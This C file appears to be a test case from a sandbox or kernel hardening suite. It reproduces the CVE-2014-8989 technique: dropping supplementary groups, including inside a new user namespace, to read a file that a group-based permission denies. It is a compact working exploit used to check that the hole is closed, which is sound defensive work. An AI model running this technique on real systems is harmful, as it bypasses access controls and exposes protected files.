/* SPDX-License-Identifier: MIT */
/* A file that everybody may read but a group that this process is in: without that group it can be read
 * (CVE-2014-8989). */
#include <grp.h>
#include <sched.h>
#include <sys/syscall.h>

#include "attack.h"

static int readable(const char *path)
{
	int fd = open(path, O_RDONLY);
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

int main(int argc, char **argv)
{
	const gid_t other = getgid();
	if (readable(argv[2]))
		return BROKEN;
	syscall(SYS_setgroups, 0, NULL);
	syscall(SYS_setgroups, 1, &other);
	if (!readable(argv[2]) && unshare(CLONE_NEWUSER) == 0)
		syscall(SYS_setgroups, 0, NULL);
	return readable(argv[2]) ? GOT_OUT : refused(argv[2]);
}
